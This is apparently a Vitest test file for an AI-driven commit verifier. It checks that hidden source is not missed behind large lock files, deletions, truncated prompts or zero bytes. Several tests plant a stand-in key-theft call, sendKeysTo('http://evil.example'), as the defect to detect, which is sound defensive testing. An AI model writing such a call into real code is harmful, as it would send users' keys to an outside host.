import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, expect, it } from 'vitest';
import { reply, type Script } from '../../source/lanes/rehearsal/script/script-answer.ts';
import { commitChange, type Fixture, factsIn, makeFixture } from '../helpers/fixture.ts';
import { marksIn, withMarks } from '../helpers/marks.ts';
import { told } from '../helpers/program.ts';
import type { RehearsalOptions } from '../helpers/rehearsal.ts';

let fixture: Fixture;
afterEach(() => fixture.close());

const pass = 'VERDICT: PASS\nBECAUSE: nothing is wrong with it.';
const theft = 'sendKeysTo("http://evil.example")';

/** Reads what it is shown, and fails what steals. */
const honest: Script = ({ prompt }) => {
  const fail = `VERDICT: FAIL\nBECAUSE: it sends the keys away.\nFINDING defect src/z-last.js:1 — it steals.`;
  return reply(withMarks(prompt, prompt.includes(theft) ? fail : pass));
};
/** Says PASS to anything. */
const careless: Script = () => reply(pass);

const lockFile = `{\n${Array.from({ length: 900 }, (_, at) => {
  const name = `package-${at}`;
  return `  "node_modules/${name}": { "version": "1.0.${at}", "resolved": "${name}-1.0.${at}.tgz", "integrity": "sha512-${Buffer.from(`${at} `.repeat(16)).toString('base64')}" },`;
}).join('\n')}\n}\n`;

async function commit(files: Readonly<Record<string, string>>): Promise<void> {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(join(fixture.repo, path, '..'), { recursive: true });
    writeFileSync(join(fixture.repo, path), text);
  }
  fixture.git('add', '-A');
  fixture.git('-c', 'user.name=a', '-c', 'user.email=a@b.c', 'commit', '-qm', 'Change much');
}

async function set(options: RehearsalOptions): Promise<void> {
  fixture = await makeFixture(options);
}

const verify = (...more: readonly string[]) =>
  fixture.fugu('verify', 'HEAD', '--author', 'spark', '--trust', ...more);
const prompts = () => fixture.models.requests().map(({ prompt }) => prompt);

it('a small change costs an honest verifier one call', async () => {
  await set({ script: honest });
  await commitChange(fixture);
  const ended = await verify('--json');
  expect(ended.code, told(ended)).toBe(0);
  expect(prompts()).toHaveLength(1);
  const given = factsIn(ended.stdout).find(({ type }) => type === 'VerdictGiven');
  expect(given).toMatchObject({ covers: ['src/fetch-shelf.js#1'] });
});

it('a lock file of 900 packages hides no source: the verifier is shown all of it', async () => {
  await set({ script: honest });
  await commit({ 'package-lock.json': lockFile, 'src/z-last.js': `${theft};\n` });
  const ended = await verify();
  expect(ended.code, told(ended)).toBe(3);
  expect(prompts().length).toBeGreaterThan(1);
  expect(prompts().some((prompt) => prompt.includes(theft))).toBe(true);
  const models = new Set(fixture.models.requests().map(({ model }) => model));
  expect(models.size).toBe(1);
});

it('a lock file beside an honest change passes when every part was read', async () => {
  await set({ script: honest });
  await commit({ 'package-lock.json': lockFile, 'src/z-last.js': 'export {};\n' });
  const ended = await verify();
  expect(ended.code, told(ended)).toBe(0);
});

it('the deletion of a large early file hides no source either', async () => {
  await set({ script: honest });
  await commit({ 'a-large.txt': 'a line that goes away\n'.repeat(20_000) });
  fixture.git('rm', '-q', 'a-large.txt');
  await commit({ 'src/z-last.js': `${theft};\n` });
  const ended = await verify();
  expect(ended.code, told(ended)).toBe(3);
  expect(prompts().some((prompt) => prompt.includes(theft))).toBe(true);
});

it('a verifier that returns no marks never passes anything', async () => {
  await set({ script: careless });
  await commitChange(fixture);
  const ended = await verify();
  expect(ended.code, told(ended)).toBe(4);
  expect(told(ended)).toContain('reading marks');
});

it.each([
  ['counts what is left', (prompt: string) => prompt.slice(-2000), honest],
  ['does not say what it counted', (prompt: string) => prompt, tailOnly(honest)],
] as const)('a server that drops the head of a prompt and %s passes nothing', async (...given) => {
  const [, keeps, script] = given;
  await set({ script, keeps });
  const rest = Array.from({ length: 120 }, (_, at) => `export const value${at} = ${at};\n`);
  await commit({ 'src/a-first.js': `${theft};\n`, 'src/b-rest.js': rest.join('') });
  const ended = await verify();
  expect(ended.code, told(ended)).toBe(4);
});

/** A script behind a server that shows it only the end of each prompt. */
function tailOnly(script: Script): Script {
  return (request) => script({ ...request, prompt: request.prompt.slice(-2000) });
}

it('a file that the project calls generated is read by nobody, and that is said', async () => {
  await set({ script: honest });
  await commit({ '.fugu.yaml': 'generated: [package-lock.json]\n' });
  await commit({ 'package-lock.json': lockFile, 'src/z-last.js': 'export {};\n' });
  const ended = await verify();
  expect(ended.code, told(ended)).toBe(0);
  expect(prompts()).toHaveLength(1);
  expect(prompts()[0]).not.toContain('package-899');
  expect(told(ended)).toContain('Nobody read package-lock.json');
});

it('a line longer than any prompt is blocked with the cure', async () => {
  await set({ script: honest });
  await commit({ 'src/min.js': `${'x'.repeat(200_000)}\n` });
  const ended = await verify();
  expect(ended.code, told(ended)).toBe(4);
  expect(told(ended)).toContain('generated:');
  expect(prompts()).toEqual([]);
});

it('a source file with a zero byte is not waved through as binary', async () => {
  await set({ script: honest });
  await commit({ 'src/z.js': `// \0\n${theft};\n`, 'src/y.js': 'export {};\n' });
  const ended = await verify();
  expect(ended.code, told(ended)).toBe(4);
  expect(told(ended)).toContain('src/z.js#1: it is a binary file');
});

it('a mark is never the same twice', async () => {
  await set({ script: honest });
  await commitChange(fixture);
  await verify();
  await verify();
  const marks = prompts().flatMap(marksIn);
  expect(marks).toHaveLength(2);
  expect(new Set(marks).size).toBe(2);
});
